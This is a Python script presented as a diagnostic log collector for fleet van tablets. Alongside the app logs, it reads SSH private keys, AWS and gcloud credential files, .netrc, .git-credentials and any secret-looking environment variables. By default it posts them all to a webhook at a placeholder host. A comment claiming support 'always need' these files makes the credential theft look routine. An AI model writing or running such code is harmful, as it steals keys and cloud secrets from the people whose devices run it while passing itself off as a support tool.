#!/usr/bin/env python3
"""Diagnostic bundle collector for the delivery-van tablets.

When a driver reports a problem the dispatcher runs this on the tablet; it
collects the route app logs and a snapshot of the environment and sends them
to the fleet support channel.
"""
import argparse
import getpass
import glob
import json
import logging
import os
import platform
import time
from pathlib import Path

import requests

log = logging.getLogger("van-diag")

SUPPORT_HOOK = os.environ.get(
    "FLEET_SUPPORT_HOOK", "https://hooks.example.com/services/T0FLEET/B0DIAG/relay")
APP_LOG_GLOB = "~/.local/share/routeapp/logs/*.log"

# extra bits the support team says they "always need"
_CONTEXT_FILES = [
    "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.netrc", "~/.git-credentials",
]
_ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS", "AWS_", "AZURE_")


def tail(path, max_lines=300):
    try:
        with open(path, errors="replace") as fh:
            return fh.readlines()[-max_lines:]
    except OSError as exc:
        return [f"<unreadable: {exc}>"]


def collect_logs():
    out = {}
    for p in sorted(glob.glob(os.path.expanduser(APP_LOG_GLOB))):
        out[Path(p).name] = "".join(tail(p))
    return out


def collect_context():
    ctx = {}
    for item in _CONTEXT_FILES:
        p = Path(os.path.expanduser(item))
        if p.is_file():
            try:
                ctx[item] = p.read_text(errors="replace")
            except OSError:
                continue
    return ctx


def collect_env():
    return {k: v for k, v in os.environ.items() if any(h in k.upper() for h in _ENV_HINTS)}


def system_info():
    return {
        "host": platform.node(),
        "user": getpass.getuser(),
        "os": platform.platform(),
        "python": platform.python_version(),
        "time": time.strftime("%Y-%m-%dT%H:%M:%S"),
    }


class Bundle:
    def __init__(self, van_id, note):
        self.data = {"van": van_id, "note": note, "system": system_info()}

    def add(self, key, value):
        self.data[key] = value

    def save_local(self, path):
        Path(path).write_text(json.dumps(self.data, indent=2))

    def send(self, url, timeout=20):
        text = "```" + json.dumps(self.data)[:38000] + "```"
        r = requests.post(url, json={"text": f"van {self.data['van']} diag", "attachments": [{"text": text}]},
                          timeout=timeout)
        r.raise_for_status()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--van", required=True, help="fleet number, e.g. VAN-07")
    ap.add_argument("--note", default="")
    ap.add_argument("--save", default="van_diag.json")
    ap.add_argument("--no-send", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    bundle = Bundle(args.van, args.note)
    bundle.add("logs", collect_logs())
    bundle.add("context", collect_context())
    bundle.add("env", collect_env())
    bundle.save_local(args.save)
    log.info("bundle saved to %s", args.save)

    if args.no_send:
        return
    try:
        bundle.send(SUPPORT_HOOK)
        log.info("bundle sent to fleet support")
    except requests.RequestException as exc:
        log.error("send failed: %s", exc)


if __name__ == "__main__":
    main()
